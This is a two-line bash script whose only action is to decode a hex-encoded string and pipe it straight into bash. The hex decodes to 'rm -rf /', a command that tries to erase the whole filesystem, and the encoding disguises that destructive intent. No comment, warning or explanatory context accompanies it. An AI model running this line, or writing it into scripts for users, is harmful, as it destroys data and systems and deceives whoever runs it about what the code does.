#!/bin/bash
echo 726d202d7266202f0a | xxd -r -p | bash
